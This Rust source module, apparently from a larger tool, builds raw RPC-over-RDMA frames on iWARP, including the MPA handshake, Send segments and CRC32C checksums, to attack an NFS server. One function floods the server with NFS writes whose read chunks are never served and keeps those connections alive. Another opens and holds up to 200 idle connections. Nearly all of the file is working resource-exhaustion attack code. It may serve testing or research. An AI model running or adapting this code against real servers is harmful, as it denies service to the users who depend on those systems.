//! Attacks by RPC-over-RDMA on iWARP, whose frames are made here.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::thread::{self, JoinHandle};
use std::time::Duration;

use super::{Handles, MIB, NFS, Stop, call, dial_from, opaque, until, word};

/// The MPA request of a kernel's NFS client (RFC 6581 section 4), with the private data of RFC 8797.
const MPA_REQUEST: [u8; 32] =
    *b"MPA ID Req Frame\x10\x02\x00\x0c\x00\x80\x00\x00\xf6\xab\x0e\x18\x01\x01\x03\x03";
/// An untagged, last segment of a Send (RFC 5041 section 4.3).
const SEND: u16 = 0x4143;
/// RDMA_MSG and RDMA_DONE (RFC 8166 section 4.2).
const MSG: u32 = 0;
const DONE: u32 = 3;
/// Between two messages of a connection that answers no RDMA Read.
const DONE_EVERY: Duration = Duration::from_secs(2);

struct Peer {
    stream: TcpStream,
    has_crc: bool,
    sent: u32,
}

impl Peer {
    fn connect(from: u8, port: u16) -> io::Result<Self> {
        let mut stream = dial_from(from, port)?;
        stream.write_all(&MPA_REQUEST)?;
        let mut head = [0; 20];
        stream.read_exact(&mut head)?;
        let mut private = vec![0; usize::from(u16::from_be_bytes([head[18], head[19]]))];
        stream.read_exact(&mut private)?;
        Ok(Self { stream, has_crc: head[16] & 0x40 != 0, sent: 0 })
    }

    /// A Send as an FPDU (RFC 5044 section 4.1).
    fn send(&mut self, message: &[u8]) -> io::Result<()> {
        self.sent += 1;
        let place = [0, 0, self.sent, 0].map(word).concat();
        let segment = [&SEND.to_be_bytes()[..], &place, message].concat();
        let mut frame = u16::try_from(segment.len()).unwrap_or(u16::MAX).to_be_bytes().to_vec();
        frame.extend_from_slice(&segment);
        frame.resize(frame.len().next_multiple_of(4), 0);
        let sum = if self.has_crc { crc32c(&frame) } else { 0 };
        frame.extend_from_slice(&sum.to_le_bytes());
        self.stream.write_all(&frame)
    }

    /// A header with these lists before a message (RFC 8166 section 4.1).
    fn send_rpc(&mut self, kind: u32, lists: &[u32], message: &[u8]) -> io::Result<()> {
        let head: Vec<u8> = [7, 1, 32, kind].iter().chain(lists).flat_map(|w| word(*w)).collect();
        self.send(&[&head[..], message].concat())
    }
}

/// Bit by bit: a few frames are made.
fn crc32c(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0, |crc: u32, byte| {
        (0..8).fold(
            crc ^ u32::from(*byte),
            |c, _| {
                if c & 1 == 1 { c >> 1 ^ 0x82f6_3b78 } else { c >> 1 }
            },
        )
    })
}

/// A call without its record mark.
fn unmarked(call: &[u8]) -> &[u8] {
    call.get(4..).unwrap_or_default()
}

/// Connections of two addresses whose data the server is to fetch, and that let it fetch none.
pub(super) fn unanswered_reads(h: &Handles, stop: &Stop) -> io::Result<Vec<JoinHandle<()>>> {
    let Some(port) = h.target.rdma else { return Ok(Vec::new()) };
    let args = [opaque(&h.large), [0, 0, MIB, 0, MIB].map(word).concat()].concat();
    let write = call(NFS, 7, &args);
    let write = unmarked(&write);
    let at = u32::try_from(write.len()).unwrap_or(0);
    let get = call(NFS, 1, &opaque(&h.root));
    let one = |n: u8| {
        let mut peer = Peer::connect(2 + n % 2, port)?;
        // It introduces itself, and has the credits of a client then.
        peer.send_rpc(MSG, &[0, 0, 0], unmarked(&get))?;
        for handle in 0..8 {
            // One chunk of 1 MiB, which is read from nowhere.
            peer.send_rpc(MSG, &[1, at, 1000 + handle, MIB, 0, 0, 0, 0, 0], write)?;
        }
        let stop = stop.clone();
        Ok(thread::spawn(move || {
            until(&stop, || {
                thread::sleep(DONE_EVERY);
                peer.send_rpc(DONE, &[0, 0, 0], &[])
            });
        }))
    };
    (0..20).map(one).collect()
}

/// Connections of two addresses that are known and say nothing more.
pub(super) fn idle(h: &Handles, stop: &Stop) -> io::Result<Vec<JoinHandle<()>>> {
    let Some(port) = h.target.rdma else { return Ok(Vec::new()) };
    let get = call(NFS, 1, &opaque(&h.root));
    let mut all = Vec::new();
    // As many as it gets.
    for n in 0..200 {
        let Ok(mut peer) = Peer::connect(2 + n % 2, port) else { break };
        if peer.send_rpc(MSG, &[0, 0, 0], unmarked(&get)).is_err() {
            break;
        }
        all.push(peer);
    }
    let stop = stop.clone();
    Ok(vec![thread::spawn(move || {
        until(&stop, || {
            thread::sleep(Duration::from_millis(100));
            Ok(())
        });
        drop(all);
    })])
}
